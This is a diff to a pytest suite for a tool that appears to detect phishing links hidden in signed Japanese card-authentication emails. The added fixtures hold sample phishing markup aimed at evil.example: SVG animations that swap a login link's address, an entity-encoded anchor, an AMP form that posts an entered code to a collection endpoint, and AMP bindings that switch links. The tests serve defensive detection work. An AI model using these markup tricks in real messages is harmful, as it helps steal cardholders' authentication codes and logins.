@@ -120,6 +120,10 @@ def test_official_buttons_images_refresh_and_matching_phone_links_stay_genuine(k
     '<meta http-equiv="Refresh" content="1 ; URL = \'https://evil.example/login\'">',
     '<meta http-equiv="refresh" content="0.5;url=https://evil.example/login">',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; login">',
+    # SVG animation that sets a link's address once it runs
+    f'<svg><a href="{OFFICIAL}"><set attributeName="href" to="{EVIL}"/><text>ログイン</text></a></svg>',
+    f'<svg><a href="{OFFICIAL}"><animate attributeName="xlink:href" values="{OFFICIAL};{EVIL}"/>'
+    '<text>ログイン</text></a></svg>',
 ])
 def test_a_link_a_reader_can_tap_or_scan_keeps_a_signed_mail_from_genuine(key, address, directory, html):
     verdict = check(signed(key, html=f"<p>SafeKey認証コード：482913</p>{html}"), address, directory)
@@ -135,6 +139,30 @@ def test_gmail_amp_part_is_read_as_html(key, address, directory):
     verdict = check(signed(key, msg), address, directory)
     assert_hidden_link_found(verdict)
     assert any(link.url == EVIL and link.kind == "anchor" for link in verdict.links)  # the entity decoded
+
+
+@pytest.mark.parametrize("amp", [
+    '<a href="&#x68;ttps://evil.example/login">本人確認はこちら</a>',
+    '<amp-img src="https://evil.example/qr.png" width="200" height="200" alt="QR"></amp-img>',
+    '<form method="post" action-xhr="https://evil.example/collect"><input name="code"></form>',
+    f'<a href="{OFFICIAL}" [href]="state.ok ? \'{OFFICIAL}\' : \'{EVIL}\'">ログイン</a>',
+    '<amp-list src="https://evil.example/data.json" layout="fixed-height" height="50"></amp-list>',
+])
+def test_what_an_amp_part_links_to_counts(key, address, directory, amp):
+    msg = email.message_from_bytes(message(), policy=email.policy.default)
+    msg.add_alternative(f'<!doctype html><html ⚡4email><body><p>認証コード：482913</p>{amp}</body></html>',
+                        subtype="x-amp-html")
+    verdict = check(signed(key, msg), address, directory)
+    assert_hidden_link_found(verdict, amp)
+
+
+def test_text_beyond_what_is_read_is_never_every_link_confirmed(key, address, directory):
+    from cardguard.verify.message import MAX_TEXT_CHARS
+
+    body = "認証コード：482913\n" + ("ご利用ありがとうございます。\n" * (MAX_TEXT_CHARS // 14)) + EVIL + "\n"
+    verdict = check(signed(key, body=body), address, directory)
+    assert verdict.verdict == "suspicious"
+    assert {"link.text_cut", "link.not_confirmed"} <= verdict.decisive
 
 
 # --- a. PDF link annotations, read as a PDF reader reads them -----------------------------------
@@ -197,8 +225,8 @@ def test_a_pdf_part_that_cannot_be_read_is_never_confirmed(key, address, directo
     verdict = check(with_pdf(key, data), address, directory)
     assert verdict.authentication.authenticated_domain
     assert verdict.verdict == "suspicious"
-    assert {"link.pdf_unreadable", "link.not_confirmed"} <= verdict.decisive
-    unread = next(f for f in verdict.findings if f.code == "link.pdf_unreadable")
+    assert {"link.attachment_unreadable", "link.not_confirmed"} <= verdict.decisive
+    unread = next(f for f in verdict.findings if f.code == "link.attachment_unreadable")
     assert "明細.pdf" in unread.message("en") and "明細.pdf" in unread.message("ja")
 
 
